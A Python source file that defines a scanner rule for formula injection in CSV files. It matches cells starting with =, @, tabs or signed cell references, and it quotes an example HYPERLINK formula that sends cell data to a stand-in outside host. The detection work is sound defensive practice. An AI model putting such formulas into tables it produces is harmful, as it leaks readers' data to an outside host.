# SPDX-License-Identifier: AGPL-3.0-or-later
"""Cells that a spreadsheet program would run."""

from __future__ import annotations

import re
from collections.abc import Iterator

from ...documents.kind import Kind
from ..findings import Hit, Verdict
from ..opened import Opened
from ..rules import leak

_FORMULA = re.compile(r"[=@\t\r\uff1d\uff20]|[+\uff0b\uff0d-](.*(\||!|[A-Za-z]\()|\$?[A-Z]{1,3}\$?\d+\b)")
"""Signs of double width count as well: some versions of Excel take them for the narrow ones."""


@leak(
    "CSV-FORMULA",
    title="A formula in a CSV file",
    verdict=Verdict.BLOCK,
    kinds={Kind.CSV},
    finds=(
        "Cells that a spreadsheet program takes for a formula: they begin with =, @, a tab or a line end, or "
        "with + or - and call something or name a cell."
    ),
    why="Opening the file would run the formula on the reader's machine.",
    cure="Replace the formula by its value, or put an apostrophe before a text that only looks like one",
    before="A cell holds `=HYPERLINK(\"http://elsewhere.example/\"&A2)`, which runs when somebody opens the table.",
    after="The cell holds the value that the formula gave.",
)
def check(opened: Opened) -> Iterator[Hit]:
    for number, row in enumerate(opened.table, 1):
        for column, cell in enumerate(row, 1):
            if _FORMULA.match(cell):
                yield Hit(f"row {number}, column {column}", "This cell is a formula to a spreadsheet program.", cell)
